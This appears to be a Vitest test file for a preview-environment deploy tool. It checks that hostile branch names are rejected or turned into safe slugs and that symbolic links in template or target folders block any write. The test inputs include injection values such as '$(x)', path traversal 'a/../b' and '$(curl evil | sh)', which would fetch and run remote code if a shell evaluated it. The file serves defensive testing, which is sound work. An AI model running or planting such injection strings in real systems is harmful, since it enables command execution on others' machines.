import { expect, describe as group, it } from 'vitest';
import { expectUntouched, gitops, image, seen, target, withFixture } from './ephemeral-env-setup.ts';

group.concurrent('ephemeral-env writes nothing', { timeout: 300_000 }, () => {
  it('where a branch has a hostile name that the template would write, and says what to write', () =>
    withFixture(
      async (fixture) => {
        const pull = await fixture.pull(12);
        const head = await fixture.github.head(gitops);
        for (const ref of ['a/../b', '$(x)', 'a\nb', '🚀', 'x'.repeat(300)]) {
          const event = { pull_request: { number: 12, state: 'open', head: { sha: pull.headSha, ref } } };
          const run = await fixture.run({ image: image('1'), template: 'hostile', values: '' }, { event });
          expect(seen(run)).toEqual({
            exitCode: 1,
            verdict: 'unknown',
            reason: 'invalid-template',
            ok: 'unknown',
          });
          expect(run.outputs.summary).toContain('use <<slug>>');
        }
        await expectUntouched(fixture, head);
      },
      { files: { 'hostile/a.yaml': 'image: <<image>>\nbranch: "<<branch>>"\n' } },
    ));

  it.each([
    ['a/../b', 'pr-12-a-b'],
    ['$(curl evil | sh)', 'pr-12-curl-evil-sh'],
    ['a\nb: c', 'pr-12-a-b-c'],
    ['🚀', 'pr-12'],
    ['x'.repeat(250), `pr-12-${'x'.repeat(34)}`],
  ])('unsafe for a branch that is called %j: its slug is %s', (ref, slug) =>
    withFixture(async (fixture) => {
      const pull = await fixture.pull(12);
      const event = { pull_request: { number: 12, state: 'open', head: { sha: pull.headSha, ref } } };
      const run = await fixture.run({ image: image('1.0.0'), 'dry-run': 'true' }, { event });
      expect(run.outputs).toMatchObject({ slug, url: `https://${slug}.example.test/`, verdict: 'live' });
      expect(run.summary).toContain(`slug: ${slug},`);
    }));

  it.each([
    ['a link in the template', 'previews/payments/link.yaml', 'README.md', {}],
    ['a template that is a link', 'linked', 'previews/payments', { template: 'linked' }],
    ['a template behind a link', 'linked', 'previews', { template: 'linked/payments' }],
    ['a target that is a link', 'ephemeral', 'previews', {}],
    ['an environment that is a link', `${target}/pr-12`, '../../previews', {}],
  ])('where there is %s', (_, path, to, inputs) =>
    withFixture(async (fixture) => {
      await fixture.pull(12);
      await fixture.link(path, to);
      const head = await fixture.github.head(gitops);
      const run = await fixture.deploy(12, '1.0.0', inputs);
      expect(seen(run)).toEqual({ exitCode: 1, verdict: 'unknown', reason: 'unsafe-folder', ok: 'unknown' });
      expect(run.outputs.summary).toContain('symbolic link');
      await expectUntouched(fixture, head);
    }));
});
